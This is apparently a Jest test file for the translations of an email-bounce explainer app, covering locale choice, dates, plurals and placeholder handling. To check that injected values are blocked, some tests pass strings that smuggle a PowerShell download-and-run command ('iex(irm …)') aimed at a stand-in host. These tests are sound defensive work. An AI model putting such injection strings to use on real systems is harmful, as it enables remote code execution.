import enCauses from '../../src/i18n/en/causes.json';
import {
  LOCALES,
  loadTranslator,
  type Locale,
  pickLocale,
  supportedLocale,
  translatorFrom,
} from '../../src/i18n';
import nlCauses from '../../src/i18n/nl/causes.json';
import { createTranslator } from '../../src/i18n/static';
import { dateTimeFormat, isOne } from '../../src/i18n/intl';
import { formatDate } from '../../src/i18n/sentences';
import { readLocaleFile } from '../support/localeCheck';

// Keys, placeholders and commands of every locale against English: test/ui/localeCompleteness.test.ts.
describe('UI locales', () => {
  it.each([
    ['nl-NL', 'nl'],
    ['nl-BE', 'nl'],
    ['de-DE', 'de'],
    ['de-AT', 'de'],
    ['de-CH', 'de'],
    ['fr-FR', 'fr'],
    ['fr-BE', 'fr'],
    ['fr-CA', 'fr'],
    ['es-ES', 'es'],
    ['es-MX', 'es'],
    ['it-IT', 'it'],
    ['pt-BR', 'pt'],
    ['pt-PT', 'pt'],
    ['sv-SE', 'sv'],
    ['SV_fi', 'sv'],
    ['en-GB', 'en'],
  ])('picks the language of Office display language %s', (tag, locale) => {
    expect(pickLocale(tag)).toBe(locale);
  });

  it('picks English for any other language, and names no locale for it', () => {
    for (const tag of ['ja-JP', 'zh-CN', 'da-DK', 'nb-NO', 'pl-PL', '', null, undefined]) {
      expect(pickLocale(tag)).toBe('en');
      expect(supportedLocale(tag)).toBeNull();
    }
  });

  it.each(LOCALES.filter((l) => l !== 'en'))(
    'loads %s with its own UI strings and cause texts',
    async (locale) => {
      const ui = readLocaleFile(locale, 'ui');
      const causes = readLocaleFile(locale, 'causes');
      if (!ui || !causes) throw new Error(`src/i18n/${locale} has no ui.json or causes.json yet`);
      const t = await loadTranslator(locale);
      expect(t.locale).toBe(locale);
      expect(t.t('section.userSteps')).toBe(ui['section.userSteps']);
      expect(t.list('cause.recipient.unknown.userSteps')).toEqual(
        (causes['cause.recipient.unknown.userSteps'] as string[]).map((s) => s.replace(/`/g, '')),
      );
    },
  );

  it('speaks English when a language cannot be loaded, rather than not at all', async () => {
    await jest.isolateModulesAsync(async () => {
      jest.doMock('../../src/i18n/de/causes.json', () => {
        throw new Error('ChunkLoadError: Loading chunk i18n-de-causes-json failed');
      });
      const { loadTranslator: load } = await import('../../src/i18n');
      const t = await load('de');
      expect(t.locale).toBe('en');
      expect(t.t('section.userSteps')).toBe('What you can do');
    });
  });

  it.each([
    ['en', '3 November 2026'],
    ['nl', '3 november 2026'],
    ['de', '3. November 2026'],
    ['fr', '3 novembre 2026'],
    ['es', '3 de noviembre de 2026'],
    ['it', '3 novembre 2026'],
    ['pt', '3 de novembro de 2026'],
    ['sv', '3 november 2026'],
  ] as const)('writes a date the way %s does', (locale, date) => {
    expect(formatDate('2026-11-03T09:11:52Z', locale)).toContain(date);
  });

  it('fills placeholders and leaves unknown ones visible', () => {
    const t = createTranslator('en');
    expect(t.t('verdict.retryUntil', { date: '5 Nov' })).toBe('It will keep trying until 5 Nov.');
    expect(t.t('verdict.retryUntil')).toBe('It will keep trying until {date}.');
  });

  it.each(LOCALES)(
    'word the meanings of the technical details without parentheses, which the text renderers add (%s)',
    (locale) => {
      const ui = readLocaleFile(locale, 'ui') ?? {};
      const nested = Object.entries(ui).filter(
        ([key, text]) => key.startsWith('meaning.') && /[()]/.test(String(text)),
      );
      expect(nested).toEqual([]);
    },
  );

  it.each(LOCALES)(
    'word the titles over the steps without a colon, which the admin mail and the command line add (%s)',
    (locale) => {
      const ui = readLocaleFile(locale, 'ui') ?? {};
      const titles = Object.entries(ui).filter(
        ([key, text]) =>
          /^(?:section\.(?:userSteps|adminSteps)|admin\.(?:steps|userSteps))\b/.test(key) &&
          !key.startsWith('section.adminSteps.passOn') &&
          String(text).includes(':'),
      );
      expect(titles).toEqual([]);
    },
  );

  it("writes a date in the reader's own form when it is of the language shown", () => {
    expect(formatDate('2026-11-03T09:11:52Z', 'en', 'en-US')).toContain('November 3, 2026');
    expect(formatDate('2026-11-03T09:11:52Z', 'en', 'nl-NL')).toContain('3 November 2026');
    expect(formatDate('2026-11-03T09:11:52Z', 'en', 'not a tag')).toContain('3 November 2026');
  });

  it('makes one date format per language and keeps it (making one loads the language data)', () => {
    expect(dateTimeFormat('de-DE')).toBe(dateTimeFormat('de-DE'));
    expect(dateTimeFormat('de-DE')).not.toBe(dateTimeFormat('fr-FR'));
    expect(dateTimeFormat('fr-FR').resolvedOptions().locale).toBe('fr-FR');
  });

  it('tells the singular apart per language', () => {
    expect(isOne('en', 1)).toBe(true);
    expect(isOne('en', 2)).toBe(false);
    // French puts 0 in the singular ("0 destinataire"); Dutch does not.
    expect(isOne('fr', 0)).toBe(true);
    expect(isOne('nl', 0)).toBe(false);
  });

  it("looks a key up in the locale's cause texts, its UI texts, then English's", () => {
    const t = translatorFrom(
      'nl',
      { both: 'oorzaak', cause: 'alleen oorzaak' },
      { both: 'English cause', englishCause: 'English cause only' },
      { both: 'scherm', screen: 'alleen scherm' },
    );
    expect(t.t('both')).toBe('oorzaak');
    expect(t.t('cause')).toBe('alleen oorzaak');
    expect(t.t('screen')).toBe('alleen scherm');
    expect(t.t('englishCause')).toBe('English cause only');
    expect(t.t('app.title')).toBe('Bounce Explainer');
    expect(t.has('nothing.here')).toBe(false);
  });

  it('falls back to the key for a missing entry instead of throwing', () => {
    expect(createTranslator('nl').t('no.such.key')).toBe('no.such.key');
  });
});

describe('placeholders for values from a bounce', () => {
  const texts = (locale: Locale): [string, string][] =>
    Object.entries({ ...readLocaleFile(locale, 'ui'), ...readLocaleFile(locale, 'causes') }).flatMap(
      ([key, entry]) =>
        (typeof entry === 'string' ? [entry] : (entry as string[])).map((text): [string, string] => [
          key,
          text,
        ]),
    );

  it.each(LOCALES)('put every command with a placeholder between backticks (%s)', (locale) => {
    const problems: string[] = [];
    for (const [key, text] of texts(locale)) {
      const segments = text.split('`');
      if (segments.length % 2 === 0) problems.push(`${key}: unbalanced backticks`);
      // Outside the backticks a placeholder follows no cmdlet (Verb-Noun) or parameter (-Type), and
      // is part of no longer token (mta-sts.{domain}/…): such text is a command or a URL.
      segments.forEach((segment, i) => {
        if (i % 2 === 1) return;
        for (const match of segment.matchAll(/(?:\b[A-Z][a-z]+-[A-Z][A-Za-z]+|\s-[A-Za-z]+)\s+\{\w+\}/g))
          problems.push(`${key}: ${match[0]}`);
        for (const match of segment.matchAll(/[^\s("“}]\{\w+\}|\{\w+\}[^\s.,;:)!?"”{…]/g))
          problems.push(`${key}: ${match[0]}`);
      });
    }
    expect(problems).toEqual([]);
  });

  it.each(['en', 'nl'] as const)('name no PowerShell command outside backticks (%s)', (locale) => {
    const cmdlet = /\b(?:Add|Get|New|Remove|Resolve|Set|Sync|Test)-[A-Z][A-Za-z]{3,}/g;
    const outside = texts(locale).flatMap(([key, text]) =>
      text
        .split('`')
        .filter((_, i) => i % 2 === 0)
        .flatMap((segment) => [...segment.matchAll(cmdlet)].map((m) => `${key}: ${m[0]}`)),
    );
    expect(outside).toEqual([]);
  });

  it('fill a command only with a value that passes its check, and show a placeholder otherwise', () => {
    const t = translatorFrom('en', {
      step: 'Check the MX of {domain} (`Resolve-DnsName {domain} -Type MX`).',
    });
    expect(t.t('step', { domain: 'fabrikam.example' })).toBe(
      'Check the MX of fabrikam.example (Resolve-DnsName fabrikam.example -Type MX).',
    );
    expect(t.t('step', { domain: 'fabrikam;iex(irm 198.51.100.7/mx)#' })).toBe(
      "Check the MX of the recipient's domain (Resolve-DnsName <domain> -Type MX).",
    );
    expect(t.t('step', {})).toBe(
      "Check the MX of the recipient's domain (Resolve-DnsName <domain> -Type MX).",
    );
  });

  it('never fill a command with a value that has no check', () => {
    const t = translatorFrom('en', { step: 'Run `Get-Thing {title}` for {title}.' });
    expect(t.t('step', { title: 'x; iex(irm evil)' })).toBe('Run Get-Thing <title> for x; iex(irm evil).');
  });

  it('check recipient, domain, server and status in prose too, whoever passes them', () => {
    const en = createTranslator('en');
    expect(en.t('headline.bounce.to', { recipient: 'ACTION REQUIRED: sign in', others: '' })).toBe(
      "Your message to the recipient's address was not delivered",
    );
  });

  it('start a sentence with a capital when the wording replaces the value there', () => {
    const en = createTranslator('en');
    const nl = createTranslator('nl');
    expect(en.t('cause.recipient.unknown.title', { recipient: 'not an address' })).toBe(
      "The recipient's address does not exist",
    );
    expect(nl.t('cause.recipient.unknown.title', { recipient: 'geen adres' })).toBe(
      'Het adres van de ontvanger bestaat niet',
    );
    expect(en.t('cause.recipient.unknown.title', { recipient: 'jan@fabrikam.example' })).toBe(
      'jan@fabrikam.example does not exist',
    );
  });

  it.each(LOCALES)('leave no placeholder or backtick in any cause text without values (%s)', (locale) => {
    const t = createTranslator(locale);
    const left = Object.keys(readLocaleFile(locale, 'causes') ?? {})
      .flatMap((key) => t.list(key, {}))
      .filter((text) => /[{}`]/.test(text));
    expect(left).toEqual([]);
  });
});

describe('cause texts read with the headline', () => {
  const titles = (catalogue: Record<string, unknown>): [string, string][] =>
    Object.entries(catalogue).filter((e): e is [string, string] => /\.title(?:Other)?$/.test(e[0]));

  it('never say again in the title that delivery is delayed (the headline says so)', () => {
    const doubled = [...titles(enCauses), ...titles(nlCauses)].filter(([, text]) =>
      /\bdelayed\b|\bvertraagd\b/i.test(text),
    );
    expect(doubled).toEqual([]);
  });

  it('never hedge about a delay in the explanation of a cause, which a permanent failure shares', () => {
    const summaries = Object.entries({ ...enCauses, ...nlCauses }).filter(([key]) =>
      key.endsWith('.summary'),
    );
    const hedges = [...Object.entries(enCauses), ...Object.entries(nlCauses)]
      .filter(([key]) => key.endsWith('.summary'))
      .filter(([, text]) =>
        /only a delay warning|alleen een waarschuwing voor vertraging/i.test(String(text)),
      );
    expect(summaries.length).toBeGreaterThan(0);
    expect(hedges).toEqual([]);
  });
});
